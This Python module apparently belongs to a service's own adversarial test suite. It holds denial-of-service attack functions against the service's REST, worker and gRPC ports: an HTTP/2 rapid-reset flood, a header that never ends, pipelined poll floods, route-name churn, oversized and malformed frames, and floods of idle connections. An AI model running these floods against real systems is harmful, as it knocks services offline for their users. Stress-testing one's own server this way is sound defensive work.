"""What dials the worker ports and means harm, or is broken."""

import socket
import time
from contextlib import suppress
from secrets import token_hex

from h2.config import H2Configuration
from h2.connection import H2Connection

from attack.wire import STREAM, Target, dial, flood, many, pump, upgraded
from prack.v1 import worker_pb2 as pb

CROWD = 1000
AT_ONCE = 1 << 20
# No slot is asked for by the route: the canary's requests must not come here.
HELLO = pb.WorkerFrame(
    hello=pb.Hello(
        worker_id="attacker",
        minor_min=1,
        minor_max=1,
        capacity=pb.Capacity(max_in_flight=1),
        routes=[pb.Route(host="attacker.example")],
    )
)
NEVER_SENT = pb.Finish(id=1)
# Broken JSON, JSON that is deeper than anybody needs, and an answer that nobody waits for.
ANSWERS = b"{", b"[" * 60_000, b'{"identifier": "nobody.1", "code": 200}'
CALL = {
    ":method": "POST",
    ":scheme": "http",
    ":authority": "localhost",
    ":path": "/prack.v1.WorkerService/Connect",
    "content-type": "application/grpc",
    "te": "trailers",
}


def tiny_events(target: Target) -> None:
    """Frames of as many events as there is room for, again and again."""
    frame = _framed(pb.WorkerFrame(finishes=[NEVER_SENT] * 100_000))
    flood(lambda: _joined(target), frame)


def refused_events(target: Target) -> None:
    """Frames that look right, of events that are all wrong."""
    frame = _framed(pb.WorkerFrame(finishes=[NEVER_SENT] * 128))
    flood(lambda: _joined(target), frame * 100)


def endless_head(target: Target) -> None:
    """A request to the worker port whose head has no end."""
    flood(
        lambda: dial(target.api, b"GET / HTTP/1.1\r\nhost: localhost\r\nx: "), bytes(b"a" * 65536)
    )


def bad_calls(target: Target) -> None:
    """Answers that are refused, one behind the other."""
    head = b"POST /api/v1/response HTTP/1.1\r\nhost: localhost\r\ncontent-length: %d\r\n\r\n%b"
    flood(lambda: dial(target.api), b"".join(head % (len(one), one) for one in ANSWERS * 10))


def pipelined_polls(target: Target) -> None:
    """Polls that do not wait, one behind the other."""
    poll = b"GET /api/v1/request?wait=0&route=attacker.example/ HTTP/1.1\r\nhost: localhost\r\n\r\n"
    flood(lambda: dial(target.api), poll * 1000)


def route_churn(target: Target) -> None:
    """Polls that do not wait, each for a route that nobody has had, until there are too many."""
    poll = b"GET /api/v1/request?wait=0&route=%s.example/ HTTP/1.1\r\nhost: localhost\r\n\r\n"
    while True:
        with suppress(OSError), dial(target.api) as sock:
            while True:
                sock.sendall(b"".join(poll % token_hex(8).encode() for _ in range(100)))
                sock.recv(AT_ONCE)


def crowd_refused(target: Target) -> None:
    """300 that ask the REST port for what it does not have, as fast as they are read."""
    pump(target.api, b"GET /api/v1/nothing HTTP/1.1\r\nhost: localhost\r\n\r\n")


def crowd_polls(target: Target) -> None:
    """300 polls that do not wait, and many more behind each."""
    poll = b"GET /api/v1/request?wait=0&route=attacker.example/ HTTP/1.1\r\nhost: localhost\r\n\r\n"
    pump(target.api, poll * 20)


def rapid_resets(target: Target) -> None:
    """Calls over HTTP/2 that are taken back at once."""
    peer = H2Connection(H2Configuration(client_side=True))
    peer.initiate_connection()
    for number in range(1, 10_000, 2):
        peer.send_headers(number, list(CALL.items()))
        peer.reset_stream(number)
    data = peer.data_to_send()
    flood(lambda: dial(target.grpc), data)


def idle_api(target: Target) -> None:
    """Connections to the REST port that say nothing."""
    with many(CROWD, target.api, b""):
        time.sleep(3600)


def idle_grpc(target: Target) -> None:
    """Connections to the gRPC port that say nothing."""
    with many(CROWD, target.grpc, b""):
        time.sleep(3600)


def _joined(target: Target) -> socket.socket:
    sock = upgraded(target.api, STREAM)
    with suppress(OSError):
        sock.sendall(_framed(HELLO))
    return sock


def _framed(frame: pb.WorkerFrame) -> bytes:
    message = frame.SerializeToString()
    return len(message).to_bytes(4, "big") + message
